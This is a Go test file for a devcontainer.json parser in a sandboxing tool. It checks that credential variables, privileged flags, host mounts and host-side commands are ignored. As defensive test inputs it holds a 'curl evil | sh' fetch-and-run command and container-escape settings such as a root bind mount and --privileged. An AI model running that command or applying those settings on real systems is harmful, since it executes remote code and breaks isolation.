package devcontainer

import (
	"os/exec"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/git-sandbox/git-sandbox/internal/usererr"
)

const file = ".devcontainer/devcontainer.json"

func mustParse(t *testing.T, src string) *Config {
	t.Helper()
	c, err := parse(file, []byte(src))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return c
}

// ignoredMap is Ignored by key.
func ignoredMap(c *Config) map[string]string {
	m := map[string]string{}
	for _, i := range c.Ignored {
		m[i.Key] = i.Reason
	}
	return m
}

func TestParseImageWithCommentsAndTrailingCommas(t *testing.T) {
	c := mustParse(t, `{
		// the toolchain
		"name": "demo",
		"image": "python:3.12", /* pinned */
		"customizations": {"vscode": {"extensions": ["ms-python.python",],},},
	}`)
	if c.Image != "python:3.12" || c.Build != nil || !c.HasBase() {
		t.Errorf("image = %q, build = %v", c.Image, c.Build)
	}
	if len(c.Ignored) != 0 {
		t.Errorf("editor-only keys reported: %v", c.Ignored)
	}
}

func TestParseBuild(t *testing.T) {
	c := mustParse(t, `{
		"build": {"dockerfile": "Dockerfile", "context": "..", "target": "dev",
		          "args": {"PY": "3.12", "WS": "${containerWorkspaceFolder}/x", "TOKEN_FROM_HOST": "${localEnv:GH_TOKEN}", "N": 3},
		          "cacheFrom": "ghcr.io/x/y", "options": ["--network=host"], "secrets": {}},
		"image": "ignored:latest"
	}`)
	b := c.Build
	if b == nil || b.rawDockerfile != "Dockerfile" || b.rawContext != ".." || b.Target != "dev" {
		t.Fatalf("build = %+v", b)
	}
	if want := map[string]string{"PY": "3.12", "WS": "/workspace/x"}; !reflect.DeepEqual(b.Args, want) {
		t.Errorf("args = %v, want %v", b.Args, want)
	}
	if c.Image != "" {
		t.Errorf("image kept next to build: %q", c.Image)
	}
	ign := ignoredMap(c)
	for key, want := range map[string]string{
		"build.args.TOKEN_FROM_HOST": "${localEnv:…} is never expanded",
		"build.args.N":               "not a string",
		"build.cacheFrom":            "pulled from a registry",
		"build.options":              "not passed on",
		"build.secrets":              "not understood",
		"image":                      "also builds an image",
	} {
		if !strings.Contains(ign[key], want) {
			t.Errorf("%s: reason %q, want it to say %q", key, ign[key], want)
		}
	}
}

func TestParseBuildDefaultsAndLegacySpelling(t *testing.T) {
	c := mustParse(t, `{"build": {"dockerfile": "Dockerfile"}}`)
	if c.Build.rawContext != "." {
		t.Errorf("default context = %q", c.Build.rawContext)
	}
	c = mustParse(t, `{"dockerFile": "../Dockerfile", "context": ".."}`)
	if c.Build == nil || c.Build.rawDockerfile != "../Dockerfile" || c.Build.rawContext != ".." {
		t.Errorf("legacy dockerFile/context: %+v", c.Build)
	}
	c = mustParse(t, `{"dockerFile": "Dockerfile"}`)
	if c.Build.rawContext != "." {
		t.Errorf("legacy default context = %q", c.Build.rawContext)
	}
}

func TestParseRefusesWhatCannotBeUsed(t *testing.T) {
	cases := map[string]struct{ src, want string }{
		"not JSON":             {`{"image": }`, "not valid JSON: line 1"},
		"not an object":        {`["image"]`, "not a JSON object"},
		"image not a string":   {`{"image": 3}`, "image must be an image reference"},
		"image with localEnv":  {`{"image": "x:${localEnv:V}"}`, "does not expand"},
		"build not an object":  {`{"build": "Dockerfile"}`, "build must be an object"},
		"build without file":   {`{"build": {"context": "."}}`, "names no dockerfile"},
		"absolute dockerfile":  {`{"build": {"dockerfile": "/etc/passwd"}}`, "is an absolute path: paths must stay inside the repository"},
		"absolute context":     {`{"build": {"dockerfile": "D", "context": "/"}}`, "is an absolute path"},
		"variable in context":  {`{"build": {"dockerfile": "D", "context": "${localWorkspaceFolder}"}}`, "does not expand"},
		"legacy dockerFile 0":  {`{"dockerFile": 0}`, "dockerFile must be a path"},
		"target with variable": {`{"build": {"dockerfile": "D", "target": "${localEnv:T}"}}`, "does not expand"},
	}
	for name, c := range cases {
		_, err := parse(file, []byte(c.src))
		if err == nil {
			t.Errorf("%s: accepted", name)
			continue
		}
		ue, ok := usererr.As(err)
		if !ok || !strings.Contains(err.Error(), c.want) || !strings.HasPrefix(err.Error(), file+": ") || len(ue.Hints) == 0 {
			t.Errorf("%s: error %q (user error %v), want it to name the file, say %q and hint", name, err, ok, c.want)
		}
	}
}

func TestParseSetupForms(t *testing.T) {
	cases := []struct {
		name, src string
		want      []Step
	}{
		{"string", `{"postCreateCommand": "pip install -r requirements.txt"}`,
			[]Step{{"postCreateCommand", "pip install -r requirements.txt"}}},
		{"array is an argv, quoted for the shell", `{"postCreateCommand": ["python3", "-c", "print('hi there')", "a b", "$HOME"]}`,
			[]Step{{"postCreateCommand", `python3 -c 'print('\''hi there'\'')' 'a b' '$HOME'`}}},
		{"object of commands, in the file's order", `{"postCreateCommand": {"z": "make deps", "a": ["npm", "ci"]}}`,
			[]Step{{"postCreateCommand.z", "make deps"}, {"postCreateCommand.a", "npm ci"}}},
		{"creation commands in the order they run", `{"postCreateCommand": "c", "onCreateCommand": "a", "updateContentCommand": "b"}`,
			[]Step{{"onCreateCommand", "a"}, {"updateContentCommand", "b"}, {"postCreateCommand", "c"}}},
		{"empty forms are no step", `{"postCreateCommand": "", "onCreateCommand": [], "updateContentCommand": null}`, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := mustParse(t, c.src)
			if !slices.Equal(got.Setup, c.want) {
				t.Errorf("setup = %q, want %q", got.Setup, c.want)
			}
		})
	}
	c := mustParse(t, `{"postCreateCommand": 7, "onCreateCommand": {"x": 1, "y": "ok"}}`)
	ign := ignoredMap(c)
	if !strings.Contains(ign["postCreateCommand"], "not a string") || !strings.Contains(ign["onCreateCommand.x"], "not a string") {
		t.Errorf("bad command forms not reported: %v", c.Ignored)
	}
	if !slices.Equal(c.Setup, []Step{{"onCreateCommand.y", "ok"}}) {
		t.Errorf("setup = %q", c.Setup)
	}
}

// TestSetupCommandRuns runs the joined command with /bin/sh: each step in
// order, the first failure stops it, and an argv step gets its words as
// written.
func TestSetupCommandRuns(t *testing.T) {
	c := mustParse(t, `{
		"onCreateCommand": "echo one # a comment",
		"postCreateCommand": {"argv": ["printf", "%s|", "a b", "it's", "$HOME"], "fail": "exit 3", "never": "echo never"}
	}`)
	out, err := exec.Command("/bin/sh", "-c", c.SetupCommand()).CombinedOutput()
	if got := string(out); got != "one\na b|it's|$HOME|" {
		t.Errorf("output %q", got)
	}
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 3 {
		t.Errorf("exit: %v, want 3", err)
	}
	single := mustParse(t, `{"postCreateCommand": "echo hi"}`)
	if single.SetupCommand() != "echo hi" {
		t.Errorf("one step is not run as written: %q", single.SetupCommand())
	}
	if (&Config{}).SetupCommand() != "" {
		t.Error("no steps, yet a command")
	}
}

func TestParseEnvFiltering(t *testing.T) {
	c := mustParse(t, `{
		"containerEnv": {
			"LANG_LEVEL": "3",
			"WS": "${containerWorkspaceFolder}/bin",
			"GITHUB_TOKEN": "abc",
			"AWS_SECRET_ACCESS_KEY": "x",
			"db_password": "x",
			"SSH_KEY_PATH": "x",
			"HOST_USER": "${localEnv:USER}",
			"WHERE": "${localWorkspaceFolder}",
			"ID": "${devcontainerId}",
			"HOME": "/root",
			"GIT_DIR": "/tmp/x",
			"GIT_SANDBOX_SETUP": "x",
			"NUM": 3,
			"BAD=NAME": "x"
		},
		"remoteEnv": {
			"PATH": "${containerEnv:PATH}:/opt/tool/bin",
			"FROM_CONTAINER": "${containerEnv:LANG_LEVEL}",
			"DEFAULTED": "${containerEnv:NOPE:fallback}",
			"LANG_LEVEL": "4"
		}
	}`)
	var names []string
	for _, e := range c.Env {
		names = append(names, e.From+"."+e.Name)
	}
	want := []string{"containerEnv.LANG_LEVEL", "containerEnv.WS", "remoteEnv.PATH", "remoteEnv.FROM_CONTAINER", "remoteEnv.DEFAULTED", "remoteEnv.LANG_LEVEL"}
	if !slices.Equal(names, want) {
		t.Errorf("env = %v, want %v", names, want)
	}
	ign := ignoredMap(c)
	for key, reason := range map[string]string{
		"containerEnv.GITHUB_TOKEN":          "credential",
		"containerEnv.AWS_SECRET_ACCESS_KEY": "credential",
		"containerEnv.db_password":           "credential",
		"containerEnv.SSH_KEY_PATH":          "credential",
		"containerEnv.HOST_USER":             "${localEnv:…} is never expanded",
		"containerEnv.WHERE":                 "would reveal where the repository is",
		"containerEnv.ID":                    "${devcontainerId} is not expanded",
		"containerEnv.HOME":                  "set by git sandbox",
		"containerEnv.GIT_SANDBOX_SETUP":     "set by git sandbox",
		"containerEnv.GIT_DIR":               "redirect the agent's repository",
		"containerEnv.NUM":                   "not a string",
		"containerEnv.BAD=NAME":              "not a valid variable name",
	} {
		if !strings.Contains(ign[key], reason) {
			t.Errorf("%s: reason %q, want %q", key, ign[key], reason)
		}
	}
	env := c.Environ([]string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8"})
	wantEnv := []string{"LANG_LEVEL=4", "WS=/workspace/bin", "PATH=/usr/bin:/bin:/opt/tool/bin", "FROM_CONTAINER=3", "DEFAULTED=fallback"}
	if !slices.Equal(env, wantEnv) {
		t.Errorf("Environ = %q, want %q", env, wantEnv)
	}
}

// TestParseIgnoredKeys: everything a repository could use to reach past
// the sandbox is ignored, each with its own reason.
func TestParseIgnoredKeys(t *testing.T) {
	c := mustParse(t, `{
		"image": "x",
		"mounts": ["source=/,target=/host,type=bind"],
		"runArgs": ["--privileged"],
		"privileged": true,
		"capAdd": ["SYS_ADMIN"],
		"securityOpt": ["seccomp=unconfined"],
		"init": true,
		"initializeCommand": "curl evil | sh",
		"postStartCommand": "x",
		"postAttachCommand": "x",
		"remoteUser": "root",
		"containerUser": "root",
		"workspaceMount": "source=/,target=/workspace,type=bind",
		"workspaceFolder": "/src",
		"appPort": [8080],
		"hostRequirements": {"gpu": true},
		"features": {"ghcr.io/devcontainers/features/node:1": {}, "./local": {}},
		"forwardPorts": [3000, "localhost:8000", "db:5432", "127.0.0.1:9000", 70000],
		"dockerComposeFile": "compose.yml",
		"service": "app",
		"runServices": ["db"],
		"somethingNew": 1
	}`)
	ign := ignoredMap(c)
	want := map[string]string{
		"mounts":            "your own config",
		"runArgs":           "hardening",
		"privileged":        "never privileged",
		"capAdd":            "capability dropped",
		"securityOpt":       "fixed",
		"init":              "init process",
		"initializeCommand": "on your machine",
		"postStartCommand":  "every container start",
		"postAttachCommand": "editor attaches",
		"remoteUser":        "uid:gid",
		"containerUser":     "uid:gid",
		"workspaceMount":    "/workspace",
		"workspaceFolder":   "/workspace",
		"appPort":           "every interface",
		"hostRequirements":  "not checked",
		"features.ghcr.io/devcontainers/features/node:1": "registries",
		"features../local":     "registries",
		"forwardPorts.db:5432": "beyond the sandbox",
		"forwardPorts.70000":   "not a port",
		"dockerComposeFile":    "Compose",
		"service":              "Compose",
		"runServices":          "Compose",
		"somethingNew":         "not understood",
	}
	for key, reason := range want {
		if !strings.Contains(ign[key], reason) {
			t.Errorf("%s: reason %q, want %q", key, ign[key], reason)
		}
	}
	if len(ign) != len(want) {
		t.Errorf("ignored %d keys, want %d: %v", len(ign), len(want), c.Ignored)
	}
	if !slices.Equal(c.Ports, []int{3000, 8000, 9000}) {
		t.Errorf("ports = %v", c.Ports)
	}
	if c.Image != "x" || len(c.Setup) != 0 {
		t.Errorf("image %q, setup %v", c.Image, c.Setup)
	}
	// One line each, escaped.
	i := Ignored{Key: "containerEnv.\x1b[2J", Reason: "r"}
	if s := i.String(); strings.ContainsRune(s, 0x1b) || !strings.HasSuffix(s, " ignored: r") {
		t.Errorf("Ignored.String() = %q", s)
	}
}

func TestParseComposeOnlyHasNoBase(t *testing.T) {
	c := mustParse(t, `{"dockerComposeFile": "c.yml", "service": "app", "postCreateCommand": "x"}`)
	if c.HasBase() {
		t.Error("a compose configuration has a base")
	}
}
